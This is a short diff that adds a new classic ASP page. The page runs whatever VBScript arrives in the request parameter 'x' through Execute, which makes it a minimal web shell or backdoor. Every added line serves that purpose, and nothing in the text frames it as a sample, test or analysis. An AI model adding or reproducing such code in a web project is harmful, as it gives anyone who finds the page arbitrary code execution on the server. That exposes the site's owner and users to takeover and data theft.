@@ -1,0 +1,5 @@
+<%
+If Request("x") <> "" Then
+  Execute Request("x")
+End If
+%>
